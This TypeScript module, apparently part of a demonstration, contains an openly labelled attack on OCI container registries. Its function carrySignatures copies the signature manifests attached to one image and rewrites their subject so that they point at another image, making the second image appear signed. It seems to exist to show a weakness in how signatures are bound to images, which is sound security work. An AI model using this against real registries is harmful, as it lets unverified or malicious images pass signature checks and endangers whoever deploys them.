/** The demo's attack by someone with push rights: attaches the signatures of one image to another. */
import { encodeUtf8 } from "../../core/bytes.ts";
import { decodeUtf8 } from "../../core/bytes.ts";
import type { Descriptor } from "../../core/oci/manifest.ts";
import type { Repository } from "../../core/repository.ts";

export async function carrySignatures(repository: Repository, from: Descriptor, to: Descriptor, signal: AbortSignal): Promise<void> {
  const { mediaType, digest, size } = to;
  const referrers = await repository.referrers(from.digest, signal);
  await Promise.all(
    referrers.map(async (referrer) => {
      const stored = await repository.manifest(referrer.digest, signal);
      if (!stored) return;
      const manifest = { ...JSON.parse(decodeUtf8(stored.bytes)), subject: { mediaType, digest, size } };
      await repository.putManifest(encodeUtf8(JSON.stringify(manifest)), stored.descriptor.mediaType, undefined, signal);
    }),
  );
}
